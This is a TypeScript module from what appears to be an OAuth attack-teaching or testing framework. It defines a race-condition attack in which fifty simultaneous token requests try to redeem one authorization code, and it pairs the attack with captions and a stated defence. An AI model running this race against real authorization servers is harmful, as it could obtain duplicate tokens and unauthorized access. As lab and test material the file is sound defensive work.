import type { Attack, Script, ScriptStep } from './attack'
import { MALLORYS_VERIFIER } from './authorize-url'
import { addressForHerApp, quizPushes } from './mallorys-app'
import { provesKey } from './own-key'
import { malloryAsksDirectly } from './parts'
import { basic, postForm, toTokenEndpoint } from './requests'
import type { AttackTools } from './tools'

/** Requests that race for one code. */
const RACERS = 50

/** Mallory asks in the name of her own app, which has credentials. */
const asksForHerApp: ScriptStep = {
  ...malloryAsksDirectly('photo-gallery'),
  move: {
    with: 'browser',
    send: async (tools) => tools.browser.open(await addressForHerApp(tools)),
  },
  words: {
    title: 'Mallory gets a code for her own app',
    caption:
      'Mallory signs in and approves her own app, which is registered like any other. The code is hers to use, once.',
  },
  reply: {
    title: 'A code, good for one use',
    caption: 'Whoever redeems it twice has two sets of tokens, and ends only one of them later.',
  },
}

type Credentials = (tools: AttackTools) => { parameters: Record<string, string>; headers: [string, string][] }

const asHerApp: Credentials = ({ app }) => ({ parameters: { redirect_uri: app.redirect_uri }, headers: [basic(app)] })
const asTheGallery: Credentials = ({ client }) => {
  const { client_id, redirect_uri } = client('photo-gallery')
  return { parameters: { client_id, redirect_uri }, headers: [] }
}

function script(asks: Script, credentials: Credentials): Script {
  return [
    ...asks,
    ...provesKey({
      step: 'fifty-token-requests',
      phase: 'strike',
      ...toTokenEndpoint,
      move: {
        with: 'tool',
        atOnce: RACERS,
        send(tools) {
          const code = tools.need('authorization_code', 'No code was made for Mallory.', 'answer')
          const { parameters, headers } = credentials(tools)
          const request = { grant_type: 'authorization_code', code, code_verifier: MALLORYS_VERIFIER, ...parameters }
          return postForm(`${tools.origins.issuer}/token`, request, headers)
        },
      },
      expects: ['tokens', 'refusal'],
      cites: ['rfc6749-10.5'],
      words: {
        title: 'Fifty requests at the same moment',
        caption:
          'Mallory sends the same good token request fifty times at once. A server that first looks and then marks the code lets several through.',
      },
      reply: { title: 'The race is run', caption: 'Count the answers with tokens among the fifty: one is the rule.' },
    }),
  ]
}

/** RFC 6749, section 10.5. */
export const codeRace: Attack = {
  id: 'A-09',
  slug: 'code-race',
  tier: 1,
  title: 'Fifty requests race for one code',
  summary: 'Mallory redeems one code many times at the same moment, and gets more than one set of tokens for it.',
  attacker: 'Somebody with a good code and the right to redeem it once, such as the owner of an app.',
  defence: 'Looking at the code and marking it used is one indivisible step: of fifty racers, one wins.',
  cites: ['rfc6749-10.5', 'rfc6749-4.1.2'],
  oracle: 'redeems-twice',
  switches: { codeSingleUse: false, codeClaimedAtomically: false },
  needs: ['code-through-browser'],
  on: {
    'authorization-code': {
      cases: [{ id: 'usual', title: 'Mallory’s own app', script: script([quizPushes(), asksForHerApp], asHerApp) }],
    },
    'authorization-code-browser': {
      cases: [
        { id: 'usual', title: 'A public app', script: script([malloryAsksDirectly('photo-gallery')], asTheGallery) },
      ],
    },
  },
}
